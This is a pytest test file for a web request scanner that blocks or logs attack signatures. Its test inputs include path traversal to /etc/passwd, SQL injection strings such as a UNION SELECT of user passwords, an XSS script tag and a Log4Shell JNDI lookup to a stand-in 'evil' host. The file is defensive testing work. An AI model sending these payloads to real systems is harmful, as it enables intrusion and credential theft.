"""
Pattern Sentinel Tests
======================
Signature matching, severity table and audit events.
"""

import pytest

from storefront_guard.audit import SecurityEventType
from storefront_guard.sentinel import (
    DEFAULT_BLOCK_SIGNATURES,
    DEFAULT_SIGNATURES,
    PatternSentinel,
    Severity,
    Signature,
    Surface,
    Verdict,
)


@pytest.fixture
def sentinel(audit):
    return PatternSentinel(audit=audit)


class TestPatternSentinel:
    """Tests for request scanning."""

    def test_clean_request_allowed(self, sentinel, audit_sink):
        """Ordinary storefront traffic should pass without events."""
        result = sentinel.scan(
            "/api/products",
            "category=shoes&sort=price&q=running+shoes",
            '{"productId": "abc", "quantity": 2}',
        )
        assert result.verdict == Verdict.ALLOW
        assert result.flagged is False
        assert audit_sink.events == []

    def test_path_traversal_blocked(self, sentinel, audit_sink):
        """Traversal in the path should block."""
        result = sentinel.scan("/api/files/../../etc/passwd")

        assert result.verdict == Verdict.BLOCK
        assert result.signature == "path_traversal"
        assert result.surface == Surface.PATH
        event = audit_sink.events[0]
        assert event.type == SecurityEventType.SUSPICIOUS_REQUEST
        assert event.details["blocked"] is True

    def test_encoded_traversal_in_query(self, sentinel):
        """URL-encoded traversal in the query should block."""
        result = sentinel.scan("/api/download", "file=%2e%2e%2f%2e%2e%2fetc%2fpasswd")
        assert result.blocked is True
        assert result.surface == Surface.QUERY

    def test_sql_tautology_blocked(self, sentinel, audit_sink):
        """Classic tautology in the body should block as SQL injection."""
        result = sentinel.scan("/api/search", "", "q=' or 1=1 --")

        assert result.verdict == Verdict.BLOCK
        assert result.signature == "sql_tautology"
        assert audit_sink.of_type(SecurityEventType.SQL_INJECTION)

    def test_union_select_in_query(self, sentinel):
        """UNION SELECT in a decoded query should block."""
        result = sentinel.scan("/api/products", "id=1+UNION+SELECT+password+FROM+users")
        assert result.blocked is True
        assert result.signature == "sql_union_select"

    def test_script_tag_logged_not_blocked(self, sentinel, audit_sink):
        """Low-severity XSS should be recorded and allowed through."""
        result = sentinel.scan("/api/reviews", "", '{"text": "<script>alert(1)</script>"}')

        assert result.verdict == Verdict.LOG
        assert result.flagged is True
        assert result.blocked is False
        event = audit_sink.of_type(SecurityEventType.XSS)[0]
        assert event.details["signature"] == "xss_script_tag"
        assert event.details["blocked"] is False

    def test_jndi_lookup_blocked(self, sentinel):
        """Log4Shell lookups should block."""
        assert sentinel.scan("/api/search", "q=${jndi:ldap://evil/a}").blocked is True

    def test_cms_scan_paths_logged(self, sentinel):
        """CMS scans only match on the path."""
        assert sentinel.scan("/wp-login.php").signature == "wordpress_scan"
        assert sentinel.scan("/api/x", "next=/wp-admin").verdict == Verdict.ALLOW

    def test_first_match_wins(self, audit):
        """Signature order should decide which one is reported."""
        first = Signature.compile("first", r"needle")
        second = Signature.compile("second", r"needle", severity=Severity.HIGH)
        sentinel = PatternSentinel(signatures=[first, second], audit=audit)

        result = sentinel.scan("/needle")
        assert result.signature == "first"
        assert result.verdict == Verdict.LOG

    def test_block_signatures_override(self, audit):
        """Configured block list should replace the default severities."""
        sentinel = PatternSentinel(block_signatures=["xss_script_tag"], audit=audit)

        assert sentinel.scan("/x", "", "<script>x</script>").blocked is True
        assert sentinel.scan("/a/../../b").verdict == Verdict.LOG

    def test_default_block_set(self):
        """Only high-severity defaults should be in the block set."""
        assert {"path_traversal", "sql_union_select", "sql_tautology", "jndi_lookup"} == set(DEFAULT_BLOCK_SIGNATURES)
        assert DEFAULT_SIGNATURES[0].name == "path_traversal"
